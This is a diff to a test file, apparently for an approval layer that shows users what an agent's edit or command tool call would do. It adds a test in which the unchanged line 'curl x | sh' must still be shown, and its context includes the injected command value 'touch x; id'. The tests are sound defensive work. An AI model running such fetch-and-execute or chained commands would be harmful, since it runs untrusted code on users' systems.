@@ -158,6 +158,12 @@ test.for([
   expect(asked.at(-1)).toMatchObject({ data: { request: { kind, command: "touch x; id", hasMore: true } } });
 });
 
+test("[T-21] an edit that claims to change nothing shows what it would write", () => {
+  const content = [{ ...diff, oldText: "curl x | sh", newText: "curl x | sh" }];
+  const asked = working().ask(1, { toolCallId: "c", title: "Edit", kind: "edit", content });
+  expect(asked.at(-1)).toMatchObject({ data: { detail: "/w/b\n+curl x | sh" } });
+});
+
 test("[T-21] a file that only the input names is judged, too", () => {
   const asked = working().ask(1, { toolCallId: "c", kind: "edit", rawInput: { file_path: "/etc/x" }, locations: here });
   expect(asked.at(-1)).toMatchObject({ data: { request: { paths: ["/w", "/etc/x"] } } });
